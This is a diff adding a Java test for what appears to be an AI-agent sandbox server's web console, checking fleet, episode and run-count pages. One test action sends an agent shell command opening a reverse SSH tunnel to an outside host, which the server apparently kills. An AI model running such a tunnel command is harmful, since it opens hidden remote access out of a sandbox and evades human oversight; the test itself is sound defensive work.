@@ -219,6 +219,51 @@ class ConsoleHttpTest {
     }
 
     @Test
+    void aGemEpisodeShowsInTheFleetWithItsStepAndItsEndCountsInItsOwnersRuns() {
+        String env = env(ALICE);
+        step(ALICE, env, "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"cat note.txt\"}}}");
+        ConsoleClient.Signed alice = console.signIn(ALICE);
+
+        String fleet = fleet(alice).body();
+        // sandbox, environment, task, owner, passport, episode, step
+        assertThat(fleet).containsPattern("<a href=\"/ui/sandboxes/[^\"]+\">[^<]+</a></td><td>" + env
+                + "</td><td>greet</td><td>alice</td><td><a [^>]+>[^<]+</a></td><td>[^<]+</td><td>1</td>");
+        String sandbox = fleet.replaceAll("(?s).*<a href=\"/ui/sandboxes/([^\"]+)\">.*", "$1");
+        String page = console.get("/ui/sandboxes/" + sandbox, cookie(alice)).body();
+        assertThat(page).contains("<dd id=\"env\">" + env + "</dd>").contains("<dd id=\"step\">1</dd>");
+        assertThat(runs(alice)).containsPattern("<td>greet</td><td>1</td><td>0</td>");
+
+        step(ALICE, env, "{\"action\": {\"name\": \"write_file\", \"arguments\": {\"path\": \"out.txt\", \"content\": \"hello\\n\"}}}");
+        step(ALICE, env, "{\"action\": {\"tool\": \"finish\", \"arguments\": {\"summary\": \"done\"}}}");
+        String killed = env(ALICE);
+        step(ALICE, killed, "{\"action\": {\"name\": \"shell\", \"arguments\": {\"command\": \"ssh -N -R 2222:localhost:22 x@203.0.113.9\"}}}");
+
+        // task, running, ended, pass rate, mean reward, kills
+        assertThat(runs(alice)).containsPattern("<td>greet</td><td>0</td><td>2</td><td>50%</td><td>[-0-9.]+</td><td>1</td>");
+        assertThat(fleet(alice).body()).contains("(between episodes)");
+        assertThat(runs(console.signIn(BOB))).doesNotContain("<td>greet</td>");
+        assertThat(runs(console.signIn(ADMIN))).containsPattern("<td>greet</td><td>0</td><td>2</td>");
+    }
+
+    private static String env(String token) {
+        LiveServer.Reply made = live.call("POST", "/v1/envs", token, "{\"task\": \"greet\"}");
+        assertThat(made.status()).as(made.body()).isEqualTo(201);
+        String id = made.json().get("env_id").asText();
+        assertThat(live.call("POST", "/v1/envs/" + id + "/reset", token, "{}").status()).isEqualTo(200);
+        return id;
+    }
+
+    private static void step(String token, String env, String action) {
+        LiveServer.Reply r = live.call("POST", "/v1/envs/" + env + "/step", token, action);
+        assertThat(r.status()).as(r.body()).isEqualTo(200);
+    }
+
+    private String runs(ConsoleClient.Signed s) {
+        String page = fleet(s).body();
+        return page.substring(page.indexOf("<table id=\"runs\">"));
+    }
+
+    @Test
     void theHoldsAndPassportPagesSayWhenTheServerHasNoSuchRoutes() {
         ConsoleClient.Signed s = console.signIn(ADMIN);
         HttpResponse<String> holds = console.get("/ui/holds", cookie(s));
